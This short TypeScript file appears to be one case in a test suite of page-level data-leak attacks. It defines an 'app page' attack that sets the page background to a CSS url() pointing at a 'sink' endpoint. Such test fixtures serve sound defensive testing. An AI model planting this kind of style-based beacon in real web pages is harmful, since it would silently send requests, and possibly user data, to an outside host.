import type { PageAttack } from "../attack.ts";

export const attack: PageAttack = {
  from: "app page",
  what: "a URL in a style",
  script: `
    document.body.style.background = "url(" + sink + ")";
  `,
};
